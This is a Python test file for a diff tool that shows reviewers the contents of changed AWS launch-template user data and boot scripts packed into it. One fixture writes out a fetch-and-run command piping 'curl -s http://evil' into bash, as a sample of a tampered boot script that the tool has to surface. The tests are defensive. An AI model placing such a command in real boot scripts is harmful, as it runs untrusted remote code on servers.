"""User data is compared by what is in it: a changed boot script is seen, and a mere rename changes nothing."""

import base64
from collections.abc import Callable
from dataclasses import replace

import pulumi
import pulumi_aws as aws
import pytest

from components.node_archive import archive
from components.user_data import BOOT_SCRIPTS, render_multipart, render_user_data
from ops.capture.program import PROJECT_ROOT, record_program
from ops.capture.recording import Recording
from ops.capture.stack_files import load_stack_config
from ops.diff.boot_texts import with_boot_texts
from ops.diff.comparison import compared
from policies.storage import FILE_SYSTEM
from tests.policies.planting import changed, inputs

TEMPLATE = "aws:ec2/launchTemplate:LaunchTemplate"
NAME = "gpu-notebook-template"


def _with_user_data(recording: Recording, text: str) -> Recording:
    packed = base64.b64encode(text.encode()).decode()
    return changed(recording, TEMPLATE, NAME, inputs(userData=packed))


def _user_data(recording: Recording) -> object:
    return with_boot_texts(recording).one(TEMPLATE, NAME).inputs["userData"]


def _values(script_name: str) -> dict[str, str]:
    return {name: "1" for name in BOOT_SCRIPTS[script_name].longest_value_characters}


def _carrying(files: dict[str, str]) -> str:
    """User data with these files packed in it, as components/user_data.py writes them."""
    return f"#!/bin/bash\nplatform_files() {{\n  cat <<'END'\n{archive(files)}END\n}}\nrun\n"


def test_a_line_in_a_packed_script_is_shown(dev: Recording) -> None:
    base = _with_user_data(dev, _carrying({"boot.sh": "#!/bin/bash\nset -e\n", "a.py": "1\n"}))
    evil = {"boot.sh": "#!/bin/bash\ncurl -s http://evil | bash\nset -e\n", "a.py": "1\n", "new.py": "2\n"}
    ((resource, changes),) = compared(base, _with_user_data(dev, _carrying(evil))).changed
    assert resource.name == NAME
    assert [(change.path, change.old, change.new) for change in changes] == [
        ("userData.boot.sh", "no line", "1 line: curl -s http://evil | bash"),
        ("userData.new.py", "(not set)", '2 lines: 2 ⏎ ""'),
    ], "whoever reviews it would see two numbers of characters"


def test_what_carries_the_files_is_compared_too(dev: Recording) -> None:
    files = {"boot.sh": "#!/bin/bash\n"}
    base = _with_user_data(dev, _carrying(files))
    head = _with_user_data(dev, _carrying(files).replace("run\n", "run; evil\n"))
    ((_, (change,)),) = compared(base, head).changed
    assert (change.path, change.new) == ("userData.user data", "1 line: run; evil")


@pytest.mark.parametrize("extra_script", ["echo extra\n", "echo größer\n"])
@pytest.mark.parametrize(("name", "render"), [("dlami", render_user_data), ("batch", render_multipart)])
def test_every_form_of_user_data_is_read(
    dev: Recording, name: str, render: Callable[..., str], extra_script: str
) -> None:
    found = _user_data(_with_user_data(dev, render(name, _values(name), extra_script)))
    assert isinstance(found, dict)
    assert {"user data", "boot.sh", "watcher/__main__.py"} <= found.keys()
    script = found["user data"]
    assert extra_script in script and "$PLATFORM/boot.sh" in script
    assert "END_OF_FILES" not in script, "every change would be told as lines of base 85, too"


@pytest.mark.parametrize(
    "text",
    ["#!/bin/bash\nplain\n", "#cloud-config\n", "", _carrying({"a": "b"}).replace("LRx4", "LRx")],
)
def test_user_data_that_packs_nothing_readable_is_its_text(dev: Recording, text: str) -> None:
    assert _user_data(_with_user_data(dev, text)) == text


def test_a_text_that_is_no_base64_stays_as_it_is(dev: Recording) -> None:
    assert _user_data(changed(dev, TEMPLATE, NAME, inputs(userData="#!/bin/sh\n"))) == "#!/bin/sh\n"


def _mounting(name: str, aliases: list[pulumi.Alias] | None = None, comment: str = "") -> Recording:
    """A file system, and a node whose packed script mounts it."""

    def program() -> None:
        system = aws.efs.FileSystem(name, encrypted=True, opts=pulumi.ResourceOptions(aliases=aliases))
        script = system.id.apply(
            lambda number: _carrying({"boot.sh": f"#!/bin/bash\nmount {number}\n{comment}"})
        )
        packed = script.apply(lambda text: base64.b64encode(text.encode()).decode())
        aws.ec2.LaunchTemplate("node", user_data=packed)

    return record_program(program, load_stack_config(PROJECT_ROOT, "dev"), "dev")


def test_an_id_inside_of_a_packed_script_goes_over_with_its_resource() -> None:
    base, aliases = _mounting("files"), [pulumi.Alias(name="files")]
    found = compared(base, _mounting("data", aliases))
    assert found.renamed and not found.changed, "a rename that AWS never learns of would seem to change nodes"
    ((_, (change,)),) = compared(base, _mounting("data", aliases, "evil")).changed
    assert change.new == "1 line: evil"
    ((_, (change,)),) = compared(base, _mounting("data")).changed
    assert (change.old, change.new) == ("1 line: mount files", "1 line: mount data")


def test_nodes_that_mount_a_replaced_file_system_follow_it(dev: Recording) -> None:
    found = compared(dev, changed(dev, FILE_SYSTEM, "shared-files-files", inputs(performanceMode="maxIO")))
    followed = {urn.rpartition("::")[2] for urn in found.replaced.updated}
    assert {NAME, "gpu-notebook-group"} <= followed, "they would mount what is gone"


def test_other_resources_are_left_alone(dev: Recording) -> None:
    without = replace(dev, resources=tuple(item for item in dev.resources if item.type != TEMPLATE))
    assert with_boot_texts(without) == without
